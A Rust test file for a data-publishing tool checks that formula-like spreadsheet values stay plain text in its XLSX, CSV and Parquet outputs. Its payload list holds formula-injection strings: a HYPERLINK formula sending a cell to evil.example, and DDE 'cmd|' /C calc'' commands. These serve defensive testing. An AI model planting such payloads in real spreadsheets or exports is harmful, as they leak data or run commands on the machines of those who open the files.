//! Values that look like formulas: they are text in the source and stay text in every output.

use calamine::{Data, Reader as _, Xlsx, open_workbook};
use hotpass_testkit::{
    project::TestProject,
    workbook::{Cell, Sheet, Workbook},
};

use crate::{
    project,
    publication::{published, table, value},
};

/// What somebody may have typed as text to be run by whoever opens the result.
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=1+1",
];

/// Returns a project whose only sheet holds the payloads.
fn baited() -> TestProject {
    let project = project();
    project.folder("data").expect("a folder");
    let mut sheet =
        Sheet::new("Schools").header(["Company name", "Notes", "Description", "Address"]);
    for (index, payload) in PAYLOADS.iter().enumerate() {
        let name = format!("=School {index}");
        sheet = sheet.row([name.as_str(), payload, payload, payload].map(Cell::from));
    }
    let book = Workbook::new().sheet(sheet);
    book.write(&project.path("data/schools.xlsx"))
        .expect("a workbook");
    project
        .write(
            "hotpass.toml",
            "[project]\ninput-dir = \"data\"\n[[source]]\nlabel = \"Schools\"\npattern = \"*.xlsx\"\n\
             [[source.table]]\nsheet = \"Schools\"\n[source.table.columns]\n\
             organization_name = \"Company name\"\nnotes = \"Notes\"\ndescription = \"Description\"\n\
             address = \"Address\"\n",
        )
        .expect("a file");
    project
}

#[test]
fn text_that_starts_like_a_formula_stays_text() {
    let project = baited();
    let result = published(&project, &[]);
    assert_eq!(result["total_records"], PAYLOADS.len());

    let rows = table(&project, "dist/hotpass.parquet");
    for payload in PAYLOADS {
        let wanted = payload.trim();
        let row = rows
            .iter()
            .find(|row| row.get("notes").is_some_and(|text| text == wanted));
        assert!(row.is_some(), "`{wanted}` is not published");
    }

    assert_text(&project);
    for file in project.files("dist").expect("the files") {
        let is_csv = std::path::Path::new(&file)
            .extension()
            .is_some_and(|e| e == "csv");
        if is_csv {
            assert_guarded(&project, &file);
        }
    }
    let names: Vec<&str> = rows
        .iter()
        .map(|row| value(row, "organization_name"))
        .collect();
    assert_eq!(names.len(), PAYLOADS.len(), "{names:?}");
}

/// Asserts that the published workbook holds the payloads as text, and no formula.
fn assert_text(project: &TestProject) {
    let mut book: Xlsx<_> = open_workbook(project.path("dist/hotpass.xlsx")).expect("the workbook");
    let mut seen = 0;
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("a sheet");
        for (_, _, formula) in formulas.used_cells() {
            assert!(formula.is_empty(), "{name} holds the formula {formula}");
        }
        let range = book.worksheet_range(&name).expect("a sheet");
        for (_, _, data) in range.used_cells() {
            if let Data::String(text) = data
                && PAYLOADS.iter().any(|payload| payload.trim() == text)
            {
                seen += 1;
            }
        }
    }
    assert!(
        // The address has a space behind each comma, which two of them have.
        seen >= 3 * PAYLOADS.len() - 2,
        "only {seen} of them are in the workbook"
    );
}

/// Asserts that no field of a CSV file starts as a formula does.
fn assert_guarded(project: &TestProject, file: &str) {
    let path = project.path("dist").join(file);
    let mut reader = csv::Reader::from_path(path).expect("a CSV file");
    let mut guarded = 0;
    for record in reader.records() {
        for field in &record.expect("a record") {
            let is_phone =
                field.starts_with('+') && field.bytes().skip(1).all(|b| b.is_ascii_digit());
            assert!(
                is_phone || !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{file}: {field}"
            );
            guarded += usize::from(field.starts_with('\''));
        }
    }
    assert!(
        file != "hotpass.csv" || guarded >= 3 * PAYLOADS.len(),
        "{file}: {guarded}"
    );
}
